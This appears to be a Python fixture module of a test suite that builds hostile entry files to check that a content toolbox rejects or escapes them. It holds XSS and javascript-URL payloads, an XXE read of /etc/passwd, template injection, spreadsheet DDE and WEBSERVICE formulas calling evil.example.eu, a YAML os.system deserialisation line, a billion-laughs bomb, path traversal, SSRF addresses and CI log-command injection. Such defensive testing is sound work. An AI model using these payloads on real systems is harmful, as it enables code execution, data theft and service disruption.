"""The cases that are made rather than written: by name, the files (under ``toolbox/entries/``) and what they hold.

A case that can be written by hand is a file in ``tests/hostile/files/`` instead. What is expected of each
stands in ``tests/golden/hostile.txt``. Every payload that would run says ``pwned``, so that it can be looked for.
"""

from __future__ import annotations

import json

from tests.hostile.entries import blank, computed, document, form, practice, spreadsheet, table

KIB = 1024
#: Just under what one file may hold.
FULL = 64 * KIB - 600
FULL_TEXT = 256 * KIB - 600

SCRIPTS = (
    "<script>pwned()</script>",
    "</title><script>pwned()</script>",
    "</textarea></style></script><script>pwned()</script>",
    '"><script>pwned()</script>',
    "<img src=x onerror=pwned()>",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&amp;lt;script&amp;gt;pwned()&amp;lt;/script&amp;gt;",
    '" onfocus=pwned() autofocus="',
    "' onclick='pwned()",
)
PROSE = (
    *SCRIPTS,
    "<svg onload=pwned()><animate onbegin=pwned() attributeName=x>",
    "<math><mi xlink:href='javascript:pwned()'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
    "<!-- --!><script>pwned()</script> -->",
    "<![CDATA[<script>pwned()</script>]]>",
    "<?php pwned() ?> <!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]> &e;",
    "<iframe srcdoc='&lt;script&gt;pwned()&lt;/script&gt;'></iframe><object data=//evil.example.eu/pwned>",
    "<base href=//evil.example.eu/><meta http-equiv=refresh content='0;url=javascript:pwned()'>",
    "<form action=//evil.example.eu/pwned><button formaction=javascript:pwned()>",
    "<a href='java\nscript:pwned()'>x</a>",
    "[x](javascript:pwned()) [x](JaVaScRiPt:pwned()) [x](<java script:pwned()>)",
    "[x](&#106;avascript:pwned()) [x](&#x6A;&#x61;vascript:pwned()) [x](javascript&colon;pwned())",
    "[x](java&Tab;script:pwned()) [x](java&NewLine;script:pwned()) [x](&#1;javascript:pwned())",
    "[x](javascript\\:pwned()) [x](\\javascript:pwned()) [x](javascript%3Apwned())",
    "[x](data:text/html,<script>pwned()</script>) [x](DATA:text/html;base64,cHduZWQ=) [x](data:image/svg+xml,pwned)",
    "[x](vbscript:pwned()) [x](VbScRiPt:pwned()) [x](file:///etc/passwd) [x](blob:pwned) [x](ms-msdt:/id pwned)",
    "<javascript:pwned()> <data:text/html,pwned> <vbscript:pwned()> <file:///etc/pwned>",
    '[x](https://www.example.eu/ "t\\" onclick=\\"pwned()") [x](https://www.example.eu/"onclick=pwned())',
    "[x](//evil.example.eu/pwned) [x](/pwned) [x](..\\..\\pwned) [x](../../pwned) [x](?pwned) [x](#pwned)",
    "[x](http://127.0.0.1/pwned) <http://169.254.169.254/pwned> [x](http://localhost/pwned) [x](http://[::1]/pwned)",
    "[x](http:\\/\\/10.0.0.1/pwned) [x](http&#58;//192.168.0.1/pwned) [x](https://user:pw@example.eu/pwned)",
    "{: onclick=pwned() } [x](https://www.example.eu/){: onclick=pwned() } {#pwned .x onload=pwned()}",
    "{{ 7 * 7 }} {{ pwned.__class__.__mro__ }} {% include '/etc/passwd' %} {# pwned #} ${7*7} <%= pwned %>",
    "{{ config.items() }} {{ macros_info() }} {% raw %} {{ context() }}",
    '--8<-- "/etc/passwd"\n--8<-- "https://evil.example.eu/pwned"\n;--8<-- "x"',
    '!!! note pwned\n\n    <script>pwned()</script>\n\n??? x\n\n=== "tab"\n\n:::: pwned\n::::',
    '[[practices/agree-the-key|<img src=x onerror=pwned()>]] [[practices/agree-the-key|"><script>pwned()</script>]]',
    "```{=html}\n<script>pwned()</script>\n```\n\n`<script>pwned()</script>`{=html}\n\n``` html onclick=pwned()\n```",
    '~~~"><script>pwned()</script>\n~~~\n\n    <script>pwned()</script>',
    "| <script>pwned()</script> | <b onclick=pwned()> |\n|---|:-:|\n| <svg onload=pwned()> | [x](javascript:pwned()) |",
    "> Drafting note: <script>pwned()</script>\n\n> <details open ontoggle=pwned()>",
    '#import "/etc/passwd": pwned\n#eval("pwned") $x$ @pwned <pwned> #read("/etc/passwd") \\u{0}',
    "\\input{/etc/passwd} \\write18{pwned} $$\\href{javascript:pwned()}{x}$$",
    "]]> ]]&gt; <w:t>pwned</w:t> </w:p><w:instrText>DDEAUTO pwned</w:instrText> &#60;w:p&#62;",
    "=cmd|' /C pwned'!A0 +1 -1 @SUM(1+1) ::error::pwned %0A ##[stop-commands]pwned",
    "https://www.example.eu/<script>pwned() www.pwned.eu mailto:pwned@example.eu <pwned@example.eu>",
    "*[pwned]: <script>pwned()</script>\n\n[^1] x\n\n[^1]: <script>pwned()</script>",
)
SHEET_TEXTS = (
    "=cmd|'/C pwned'!A0",
    "+cmd|'/C pwned'!A0",
    "-2+3+cmd|'/C pwned'!A0",
    "@SUM(1+1)*cmd|'/C pwned'!A0",
    '=HYPERLINK("http://evil.example.eu/pwned","x")',
    '=WEBSERVICE("http://evil.example.eu/pwned")',
    "=INDIRECT(\"'[pwned.xlsx]x'!A1\")",
    'DDE("cmd";"/C pwned";"x")',
    "{=1+1}",
    '"=1+1',
    "'=1+1",
    "=1+1;pwned",
    "http://evil.example.eu/pwned",
    "internal:'Table'!A1",
    "external:pwned.xlsx",
    "file:///etc/pwned",
    "mailto:pwned@example.eu",
    "</t></is></c><f>1+1</f> ]]> &amp; <pwned/>",
    "_x0001_ _x000D_ pwned",
    "&L&8pwned &P &F",
)

#: Bytes that are no right entry at all, as ``practices/<name>.yml``.
BYTES: dict[str, bytes] = {
    "yaml-billion-laughs": b"a: &a [x,x]\n"
    + b"".join(b"%c: &%c [*%c,*%c]\n" % (n + 1, n + 1, n, n) for n in range(97, 115)),
    "yaml-alias-to-itself": b"a: &a\n  - *a\n",
    "yaml-deep-flow": b"title: " + b"[" * 30_000 + b"]" * 30_000,
    "yaml-deep-flow-open": b"title: " + b"[" * (FULL - 10),
    "yaml-deep-braces": b"title: " + b"{a: " * 15_000,
    "yaml-deep-block": b"\n".join(b" " * n + b"a:" for n in range(350)),
    "yaml-deep-dashes": b"- " * 30_000,
    "yaml-deep-questions": b"? " * 30_000,
    "json-deep": b'{"title": ' * 6_000,
    "yaml-many-keys": b"".join(b"k%d: 1\n" % n for n in range(6_000)),
    "yaml-many-duplicates": b"a: 1\n" * 12_000,
    "yaml-many-items": b"title: [" + b"a," * 30_000 + b"]",
    "yaml-unknown-keys": b"".join(b"k%d: 1\n" % n for n in range(58)),
    "yaml-long-line": b"title: " + b"x" * FULL,
    "yaml-long-key": b"x" * FULL + b": 1",
    "yaml-huge": b"title: " + b"x" * 10_000_000,
    "yaml-long-number": b"title: " + b"9" * FULL,
    "yaml-utf-16": "title: x\n".encode("utf-16"),
    "yaml-utf-16-without-mark": "title: x\n".encode("utf-16-le"),
    "yaml-utf-32": "title: x\n".encode("utf-32"),
    "yaml-latin-1": "title: clé\n".encode("latin-1"),
    "yaml-overlong-slash": b"title: \xc0\xaf\n",
    "yaml-surrogates": b"title: \xed\xa0\x80\n",
    "yaml-above-unicode": b"title: \xf4\x90\x80\x80\n",
    "yaml-nul": b"title: a\x00b\n",
    "yaml-only-nul": b"\x00" * FULL,
    "yaml-only-zero-width": "\u200b".encode() * (FULL // 3),
    "yaml-bidi": "title: a\u202egnp.exe\n".encode(),
    "yaml-escape-code": b"title: \x1b[2Jx\n",
    "yaml-next-line": "title: a\u0085b\n".encode(),
    "yaml-line-separator": "title: a\u2028b\n".encode(),
    "yaml-tag-characters": "title: a\U000e0041\U000e0042\n".encode(),
    "yaml-colons": b": " * 30_000,
    "yaml-quotes": b"'" * FULL,
    "yaml-comment-only": b"#" * FULL,
    "yaml-empty": b"",
    "yaml-only-a-word": b"pwned",
    "yaml-long-blank-lines": b"\n" * FULL,
    "yaml-long-block-scalar": b"title: |\n" + b"  x\n" * 15_000,
}

#: Entries of which one thing is wrong, or only looks so, as ``practices/<name>.yml``.
PRACTICES: dict[str, bytes] = {
    **{
        f"escaped-{name}": b'{"title": "a\\%sb"}' % code
        for name, code in {
            "nul": b"0",
            "bell": b"x07",
            "escape": b"e",
            "carriage-return": b"r",
            "tab": b"t",
            "next-line": b"N",
            "line-separator": b"L",
            "zero-width": b"u200B",
            "bidi": b"u202E",
            "tag-character": b"U000E0041",
            "byte-order-mark": b"uFEFF",
            "non-character": b"uFFFF",
            "surrogate": b"uD800",
        }.items()
    },
    "escaped-key": b'{"titl\\u200Be": "x"}',
    **{
        f"entity-{name}": practice(in_short=f"x &{code}; y")
        for name, code in {
            "bidi": "#8238",
            "bidi-in-hex": "#x202E",
            "bidi-by-name": "rlm",
            "zero-width": "ZeroWidthSpace",
            "soft-hyphen": "shy",
            "tag-character": "#xE0041",
            "nul": "#0",
            "control": "#x1",
            "surrogate": "#xD800",
            "above-unicode": "#x110000",
        }.items()
    },
    **{f"prose-{number:02}": practice(in_short=text) for number, text in enumerate(PROSE, 1)},
    **{
        f"plain-{number}": practice(
            title=text,
            summary=text,
            keywords=[text],
            steps=[{"who": text, "action": text}] * 2,
            sources=[
                {
                    "key": "guide",
                    "title": text,
                    "url": "https://www.example.eu/?a='b&c",
                    "publisher": text,
                    "type": "official",
                    "accessed": "2026-11-20",
                }
            ],
        )
        for number, text in enumerate(SCRIPTS, 1)
    },
    "title-that-is-an-address": practice(title="javascript:pwned()"),
    "title-with-entities": practice(title="AT&amp;T &copy; &#60;b&#62; 100 % {{ x }}"),
    "title-with-newline": practice(title="a\n::error::pwned"),
    "quoted-command": practice(status="x\n::error file=pwned::pwned\n%0A::warning::x"),
    "quoted-ansi": b'{"status": "\\e[31mpwned\\e[0m\\r"}',
    "quoted-section": practice(status="section_start:1:pwned[collapsed=true]\nsection_end:1:pwned"),
    "quoted-old-command": practice(status="##[stop-commands]pwned ##vso[task.setvariable]x"),
    "quoted-long": practice(status="x" * 50_000),
    "quoted-wide": practice(status="\U0001f600" * 10_000),
    "key-is-a-command": practice(**{"::error::pwned\n::x": 1, "\u0430": 1}),
    "loud": practice(**{"\u4e00" * 300 + str(n): 1 for n in range(40)}),
    "identifier-cyrillic": practice(related=["practices/\u0430gree-the-key"]),
    "identifier-full-width": practice(related=["practices/\uff41gree"]),
    "identifier-nfd": practice(aliases=["cle\u0301"]),
    "identifier-turkish": practice(aliases=["d\u0131y"]),
    "identifier-newline": practice(aliases=["x\n"]),
    "reference-traversal": practice(
        related=["practices/../../etc/passwd", "../practices", "practices/", "/practices/x"]
    ),
    "reference-unknown-kind": practice(related=["vocabulary/phases"]),
    "link-traversal": practice(in_short="[[../../etc/passwd]] [[practices/../x]] [[practices/%2e%2e]] [[/etc/passwd]]"),
    "template-traversal": practice(steps=[{"who": "x", "action": "x", "templates": ["../../x"]}] * 2),
    "instrument-traversal": practice(
        steps=[{"who": "x", "action": "x", "law": [{"instrument": "../x", "provision": "x"}]}] * 2
    ),
    "since-traversal": practice(since="../2027.1"),
    "status-true": practice(status=True),
    "title-is-a-list": practice(title=["x"]),
    "steps-is-a-string": practice(steps="x"),
    "sources-is-a-bomb": practice(sources=[[[[[[[[[[[]]]]]]]]]]]),
    "alias-of-another": practice(aliases=["agree-the-key"]),
    "alias-of-itself": practice(aliases=["alias-of-itself"]),
    "alias-con": practice(aliases=["con"]),
    "alias-index": practice(aliases=["index"]),
    "date-year-one": practice(checked={"date": "0001-01-01", "against": "x"}),
    "date-last": practice(review_by="9999-12-31"),
    "date-full-width": practice(review_by="\uff12\uff10\uff12\uff18-11-21"),
    "date-impossible": practice(review_by="2026-02-30"),
    "language-regex": practice(
        sources=[
            {
                "key": "a",
                "title": "x",
                "url": "https://www.example.eu",
                "publisher": "x",
                "type": "official",
                "accessed": "2026-11-20",
                "language": "a" * 20_000,
            }
        ]
    ),
    **{
        f"brackets-{name}": practice(in_short=(text * 20_000)[:20_000])
        for name, text in {
            "open": "[",
            "image": "![",
            "link": "[a](",
            "entry": "[[",
            "cite": "[@a",
            "close-open": "][",
            "parentheses": "[a]((",
            "blank": "{a",
        }.items()
    },
    **{
        f"slow-{name}": practice(in_short=(text * 20_000)[:20_000])
        for name, text in {
            "emphasis": "*a ",
            "emphasis-pairs": "*_",
            "emphasis-triples": "**a *b ",
            "underscores": "_a",
            "quotes": ">",
            "quotes-spaced": "> ",
            "lists": "- ",
            "lists-and-quotes": "> - ",
            "angle": "<",
            "comments": "<!--",
            "processing": "<?",
            "cdata": "<![CDATA[",
            "ampersands": "&a",
            "rules": "***\n",
            "headings": "# \n",
            "backslashes": "\\",
            "autolinks": "http://",
            "spaces": "a  ",
        }.items()
    },
    "slow-backticks": practice(in_short="a".join("`" * n for n in range(1, 198))),
    "slow-nested-list": practice(in_short="\n".join("  " * n + "- a" for n in range(120))),
    "slow-table-columns": practice(
        in_short="|".join("a" * 2_000) + "\n" + "|".join("-" * 2_000) + "\n" + "|a\n" * 3_000
    ),
    "slow-table-rows": practice(in_short="|a|b|\n|-|-|\n" + "|a|b|\n" * 3_000),
    "definition": practice(in_short="[x][y]\n\n[y]: javascript:pwned()"),
    "definition-multiplied": practice(in_short="[a]: https://www.example.eu/" + "x" * 9_000 + "\n\n" + "[a] " * 2_500),
    "definition-in-quote": practice(in_short="> - [a\n> b]: /x\n\n[a b]"),
    "many-citations": practice(
        in_short=" ".join(f"[@guid{n}]" for n in range(1_500)), unknowns=["[@guide-x] " * 150] * 20
    ),
    "many-links": practice(
        in_short=" ".join(f"[[practices/agree-the-ke{n}]]" for n in range(600)),
        unknowns=["[[practices/x-y]] " * 90] * 20,
    ),
    "many-terms": practice(phases=["tendring"] * 100, topics=["governence"] * 100, audience=["leed-buyer"] * 100),
    "many-errors-deep": practice(steps=[{"who": "x", "action": "x", "templates": ["A"] * 100}] * 100),
}

_ADDRESSES = (
    "http://127.0.0.1", "http://127.1", "http://2130706433", "http://0x7f000001", "http://0177.0.0.1",
    "http://017700000001", "http://0", "http://[::]", "http://[::1]", "http://[::ffff:127.0.0.1]",
    "http://[::ffff:7f00:1]", "http://[fe80::1%25eth0]", "http://169.254.169.254", "http://[fd00:ec2::254]",
    "http://10.0.0.1", "http://172.16.0.1", "http://192.168.1.1", "http://100.64.0.1", "http://localhost",
    "http://LOCALHOST", "http://localhost.", "http://a.localhost", "http://\uff11\uff12\uff17.\uff10.\uff10.\uff11",
    "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460", "http://127\u30020\u30020\u30021", "http://\u24db\u24de\u24d2alhost",
    "http://metadata.google.internal", "http://router", "http://router.local", "http://printer.lan", "http://x.home.arpa",
    "http://fritz.box", "http://x.localdomain", "http://127.0.0.1.nip.io", "http://10-0-0-1.sslip.io", "http://localtest.me",
    "http://lvh.me", "http://example.eu:22", "http://user@example.eu", "http://example.eu@127.0.0.1", "http://example.eu\\@127.0.0.1",
    "http://127.0.0.1#@example.eu", "http://example.eu%2f@127.0.0.1", "http:127.0.0.1", "http:/127.0.0.1", "http:\\\\127.0.0.1",
    "//127.0.0.1", "https://ex\u00adample.eu", "https://example.eu.", "https://exa_mple.eu", "https://" + "a." * 900 + "eu",
    "https://" + "a" * 20_000, "javascript:pwned()", "data:text/html,pwned", "HTTP://example.eu\n", "ftp://example.eu",
)  # fmt: skip
PRACTICES["sources-local"] = practice(
    sources=[
        {
            "key": f"k{number}",
            "title": "x",
            "url": address,
            "publisher": "x",
            "type": "official",
            "accessed": "2026-11-20",
        }
        for number, address in enumerate(_ADDRESSES)
    ]
)

_DAY = {"id": "day", "label": "Day", "type": "date"}

#: Templates that are documents, as ``templates/<name>.yml`` and ``.md``.
DOCUMENTS: dict[str, tuple[bytes, bytes]] = {
    **{f"text-{number:02}": (document(), f"## Head\n\n{text}\n".encode()) for number, text in enumerate(PROSE, 1)},
    **{
        f"heading-{number}": (document(), f"## {text}\n\n### {text} *x*\n\nx\n".encode())
        for number, text in enumerate(SCRIPTS, 1)
    },
    **{
        f"field-{number}": (
            document(
                blank("a", label=text, help=text),
                blank("b", "choice", label=text, options=[text, text + "x"]),
                blank("c", "yes-no", label=text),
                title=text[:80],
            ),
            b"## Head\n\n{a} {b} {c}\n",
        )
        for number, text in enumerate(
            (
                *SCRIPTS,
                "]]></w:t><w:instrText>DDEAUTO pwned</w:instrText>",
                "x" * 63 + '&"<',
                '") #read("/etc/passwd") #("',
                '\\u{22}) #panic("pwned")',
            ),
            1,
        )
    },
    "text-nul": (document(), b"## Head\n\na\x00b\n"),
    "text-bidi": (document(), "## Head\n\na\u202eb\n".encode()),
    "text-entity-bidi": (document(), b"## Head\n\nx\n\na &#8238; b\n"),
    "text-entity-control": (document(), b"## Head\n\na &#x1; &#xFFFE; &#xD800; b\n"),
    "text-utf-16": (document(), "## Head\n".encode("utf-16")),
    "text-huge": (document(), b"x" * 10_000_000),
    "text-only-zero-width": (document(), "\u200b".encode() * (FULL_TEXT // 3)),
    "text-definition": (document(), b"## Head\n\n[x][y] [y]\n\n[y]: javascript:pwned()\n"),
    "text-unclosed": (document(), b"## Head\n\n```\n{day}\n"),
    "text-front-matter": (document(), b"---\ntitle: pwned\nrender_macros: true\n---\n\n## Head\n\nx\n"),
    "text-title-block": (document(), b"% pwned\n% pwned\n\n## Head\n\nx\n"),
    "text-empty": (document(), b""),
    "text-headings-alike": (document(), b"## top\n\nx\n\n## top\n\nx\n\n## __config\n\nx\n\n## &nbsp;\n\nx\n"),
    "fields-alike": (document(_DAY, _DAY), b"## Head\n\n{day}\n"),
    "fields-shadow": (
        document(blank("constructor"), blank("proto"), blank("tostring")),
        b"## Head\n\n{constructor} {proto} {tostring}\n",
    ),
    "text-many-unknown-blanks": (document(_DAY), b"## Head\n\n{day}\n" + b"{dayx}\n" * (FULL_TEXT // 8)),
    "text-many-blanks": (document(_DAY), b"## Head\n\n" + b"{day} x\n" * 4_000),
    **{
        f"text-slow-{name}": (document(), b"## Head\n\n" + (text * FULL_TEXT)[:FULL_TEXT])
        for name, text in {
            "brackets": b"[",
            "images": b"![",
            "links": b"[a](",
            "emphasis": b"*a ",
            "emphasis-pairs": b"*_",
            "quotes": b">",
            "quotes-spaced": b"> ",
            "lists": b"- ",
            "angle": b"<a ",
            "comments": b"<!--",
            "ampersands": b"&a",
            "spaces": b"a  ",
            "parentheses": b"[a]((",
            "tilde": b"~~",
            "headings": b"# \n",
            "rules": b"***\n",
        }.items()
    },
    "text-slow-nested-list": (document(), "\n".join("  " * n + "- a" for n in range(400)).encode()),
    "text-slow-backticks": (document(), "a".join("`" * n for n in range(1, 700)).encode()),
    "text-slow-table-columns": (
        document(),
        b"|".join([b"a"] * 20_000) + b"\n" + b"|".join([b"-"] * 20_000) + b"\n" + b"|a\n" * 50_000,
    ),
    "text-slow-table-rows": (document(), b"## Head\n\n|a|b|\n|-|-|\n" + b"|a|b|\n" * 40_000),
    "text-definition-multiplied": (
        document(),
        b"[a]: https://www.example.eu/" + b"x" * 100_000 + b"\n\n" + b"[a] " * 35_000,
    ),
}

#: Templates that are spreadsheets, as ``templates/<name>.yml``.
SPREADSHEETS: dict[str, bytes] = {
    **{
        f"sheet-text-{number:02}": spreadsheet(
            form(
                blank("a", label=text, help=text, example=text),
                blank(
                    "b",
                    "choice",
                    label=text,
                    options=[text, text + "x"],
                    example=text,
                    tones=[{"word": text, "tone": "bad"}],
                ),
                computed('IF({a}="","",{a})', text, type="text", label=text, help=text),
                intro=text,
            ),
            table(blank("c", label=text, help=text, example=[text, "x"]), intro=text),
            title=text,
            summary=text,
        )
        for number, text in enumerate((*SHEET_TEXTS, *SCRIPTS), 1)
    },
    "sheet-tone-formula": spreadsheet(
        form(
            blank("a", example="x", tones=[{"word": '",A1)))+WEBSERVICE("http://evil.example.eu/pwned', "tone": "bad"}])
        )
    ),
    "sheet-title-formula": spreadsheet(
        form(blank("a", example="x"), computed('"{table.c}"', "x", type="text")),
        table(blank("c", example=["http://evil.example.eu/pwned"]), title='"&WEBSERVICE($A$5)&"'),
    ),
    "sheet-name-in-text": spreadsheet(form(blank("a", example="x"), computed('"{a}"', "{a}", type="text"))),
    **{
        f"sheet-named-{number:02}": spreadsheet(form(blank("a", example="x"), title=title))
        for number, title in enumerate(
            (
                "'!A1",
                "[x.xlsx]y",
                "a/b",
                "..",
                "History",
                "lists",
                "VERSION",
                "read me first",
                "a" * 32,
                "<script>pwned()",
                "&L&8",
                "A1",
                "R1C1",
                "=1+1",
                "a:b",
                "x!y",
                "\u202d",
                "TRUE",
                "a\nb",
                "#REF!",
            ),
            1,
        )
    },  # fmt: skip
    "sheets-named-alike": spreadsheet(
        form(blank("a", example="x"), title="Stra\u00dfe"), table(blank("b", example=["x"]), title="STRASSE")
    ),
    "sheets-named-nfd": spreadsheet(
        form(blank("a", example="x"), title="Cl\u00e9"), table(blank("b", example=["x"]), title="Cle\u0301")
    ),
    **{
        f"formula-{name}": spreadsheet(form(blank("a", "number", example=1), computed(formula)))
        for name, formula in {
            "hyperlink": 'HYPERLINK("http://evil.example.eu/pwned","x")',
            "webservice": 'WEBSERVICE("http://evil.example.eu/pwned")',
            "indirect": 'INDIRECT("A1")',
            "call": 'CALL("pwned","x")',
            "register-id": 'REGISTER.ID("pwned")',
            "lower-case": 'webservice("x")',
            "future": '_xlfn.WEBSERVICE("x")',
            "user-defined": "PWNED(1)",
            "external": "'[pwned.xlsx]x'!A1",
            "external-path": "'file:///etc/[pwned]x'!A1",
            "dde": "cmd|'/C pwned'!A0",
            "cell": "A1",
            "cell-of-all": "A:A",
            "array": "{1,2,3}",
            "name": "pwned+1",
            "error": "#REF!",
            "bang": "!A1",
            "semicolon": "SUM(1;2)",
            "space-before-bracket": 'WEBSERVICE ("x")',
            "new-line-before-bracket": 'WEBSERVICE\n("x")',
            "full-width": "\uff37\uff25\uff22(1)",
            "string-open": '"x',
            "string-long": '"' + "x" * 300 + '"="x"',
            "string-quotes": '"""&WEBSERVICE(""x"")&"""',
            "deep-brackets": "(" * 700 + "1" + ")" * 700,
            "deep-functions": "IF(1=1," * 180 + "1" + ",1)" * 180,
            "deep-signs": "-" * 1_400 + "1",
            "many-percent": "1" + "%" * 1_400,
            "long-sum": "1" + "+1" * 700,
            "powers": "2" + "^2" * 700,
            "too-long": "1" + "+1" * 5_000,
            "own-self": "{computed}+1",
            "long-number": "9" * 1_400,
            "division-by-zero": "1/0",
            "regex": "A" * 1_499,
            "regex-spaces": "1" + " " * 1_400 + "x",
        }.items()
    },
    **{
        f"value-{name}": spreadsheet(form(blank("a", "number", example=value)))
        for name, value in {
            "nan": "nan",
            "infinite": "inf",
            "exponent": "1e999999",
            "large-exponent": "1e300",
            "underscore": "1_000",
            "full-width": "\uff11\uff12",
            "spaces": " 1 ",
            "long": "9" * 60_000,
            "signed": "+1",
        }.items()
    },
    "value-date-year-one": spreadsheet(form(blank("a", "date", example="0001-01-01"))),
    "value-date-last": spreadsheet(form(blank("a", "date", example="9999-12-31"))),
    "value-date-week": spreadsheet(form(blank("a", "date", example="2026-W01-1"))),
    "value-text-long": spreadsheet(form(blank("a", example="x" * 60_000))),
    "value-lines": spreadsheet(form(blank("a", "long-text", example="a\n" * 20_000))),
    "limit-decimals": spreadsheet(form(blank("a", "number", decimals=7))),
    "limit-rows": spreadsheet(table(blank("a"), rows=501)),
    "limit-maximum": spreadsheet(form(blank("a", "number", minimum=-(10**17), maximum=10**17, example=1))),
    "checked-year-one": spreadsheet(form(blank("a", example="x")), checked={"date": "0001-01-01", "against": "x"}),
    "choice-from-nowhere": spreadsheet(form(blank("a", "choice", options_from="x.y.z'!A1"))),
    "circle": spreadsheet(
        form(blank("a", "number", formula="{b}", example=1), blank("b", "number", formula="{a}", example=1))
    ),
    "chain": spreadsheet(
        *(
            table(
                *(
                    blank(f"c{n}", "number", formula=f"{{c{n - 1}}}+1" if n else "{row}", example=[n + 1])
                    for n in range(80)
                ),
                id=f"s{number}",
                title=f"S{number}",
                rows=3,
            )
            for number in range(3)
        )
    ),
    "many-cells": spreadsheet(
        *(
            table(*(blank(f"c{n}", "number") for n in range(90)), id=f"s{number}", title=f"S{number}", rows=500)
            for number in range(8)
        )
    ),
    "many-formulas": spreadsheet(
        *(
            table(
                *(blank(f"c{n}", "number", formula="1", example=[1]) for n in range(80)),
                id=f"s{number}",
                title=f"S{number}",
                rows=500,
            )
            for number in range(5)
        )
    ),
    "much-work": spreadsheet(
        table(
            blank("a", "number", example=[1]),
            *(
                blank(f"c{n}", "number", formula="+".join(["SUMPRODUCT({table.a}*{table.a})"] * 20), example=[20])
                for n in range(60)
            ),
            rows=500,
        )
    ),
    "many-unknown-names": spreadsheet(
        form(*(blank(f"f{n}", "number", formula="+".join(["{ab}"] * 250), example=1) for n in range(50)))
    ),
}

#: Files by path, where the path is the attack; the content is a right entry.
_RIGHT = practice()
NAMES: dict[str, bytes] = {
    **{
        f"practices/{name}.yml": _RIGHT
        for name in (
            "con", "aux", "nul", "com1", "index", "new", "readme", "404", "all", "CON", "Con", "A-Case", "a_case", "a--case",
            "-case", "case-", "a case", "a.case", "a%2e%2ecase", "a:case", "a\u0430", "\uff41", "cle\u0301", "cl\u00e9", "x" * 81,
            "\u202ecase", "a\nb", "a\x1b[31mb", "::error::pwned", "$(pwned)", "`pwned`", "<script>pwned()", "a'b", 'a"b', "{{pwned}}",
            "-rf", "~", "a\\b", "entry.json", "templates-2027.1", "%0A::error::pwned", "section_start:1:pwned\r\x1b[0K", " ",
        )
    },
    **dict.fromkeys(("practices/a.yaml", "practices/a.YML", "practices/.yml", "practices/.hidden.yml", "practices/a.yml.bak", "practices/a.yml~", "practices/a.md", "practices/index.html", "practices/entry.json", "practices/.htaccess", "practices/deep/a.yml", "practice/a.yml", "Practices/a.yml", "fields/a.yml", "schema/a.yml", "contribute/a.yml", "assets/a.js", "search/a.yml", "a.yml", "vocabulary/phases.yml", "templates/entry.md", "templates/..md"), _RIGHT),
}  # fmt: skip
NAMES["practices/" + "/".join(["d"] * 1_200) + "/a.yml"] = _RIGHT


def files() -> dict[str, bytes]:
    """Every made file by its path under ``toolbox/entries/``."""
    made = {f"practices/{name}.yml": content for name, content in {**BYTES, **PRACTICES}.items()}
    for name, (entry, text) in DOCUMENTS.items():
        made[f"templates/{name}.yml"], made[f"templates/{name}.md"] = entry, text
    made |= {f"templates/{name}.yml": content for name, content in SPREADSHEETS.items()}
    return {**made, **NAMES}


#: The controlled words and the register of law, each wrong in its own way; all of one round stand together.
_TERM = b"  label: x\n  definition: x\n"
_REGISTER = {
    "name": "x",
    "kind": "directive",
    "celex": "32014L0024",
    "url": "https://eur-lex.europa.eu/",
}
REGISTERS: tuple[dict[str, bytes], ...] = (
    {
        "vocabulary/audience.yml": b"a: &a [x,x]\nb: *a\n",
        "vocabulary/buyer-roles.yml": b"!!python/object/apply:os.system ['pwned']\n",
        "vocabulary/buyers.yml": b"[" * 100_000,
        "vocabulary/case-fits.yml": b"\x00" * 1_000_000,
        "vocabulary/instrument-kinds.yml": b"- a\n" * 3_000,
        "vocabulary/jurisdictions.yml": b"x" * 2_000_000,
        "vocabulary/lesson-bases.yml": b"",
        "vocabulary/phases.yml": b"index:\n"
        + _TERM
        + b"con:\n"
        + _TERM
        + b"../x:\n"
        + _TERM
        + b"a" * 300
        + b":\n"
        + _TERM,
        "vocabulary/purchase-forms.yml": b'"a\\n::error::pwned":\n' + _TERM + b'"\\u0430":\n' + _TERM,
        "vocabulary/source-types.yml": b"a: pwned\nb:\n  label: [x]\n  definition: {}\n  more: 1\n",
        "vocabulary/topics.yml": b"a:\n  label: x\n  definition: 'x &#8238; y'\n",
        "instruments.yml": json.dumps(
            {
                "../x": _REGISTER,
                "javascript": {**_REGISTER, "url": "javascript:pwned()"},
                "local": {**_REGISTER, "url": "http://127.0.0.1/"},
                "entity": {**_REGISTER, "read": {"version": "&rlm;", "date": "2026-11-20"}},
                "con": _REGISTER,
                "x" * 100: _REGISTER,
                "list": [],
            },
            indent=1,
        ).encode(),
    },
    {
        "vocabulary/audience.yml": b"a: 1\n" * 200_000,
        "vocabulary/topics.yml": "\u200b".encode() * 300_000,
        "instruments.yml": b"a" + b": {a" * 200_000,
    },
)
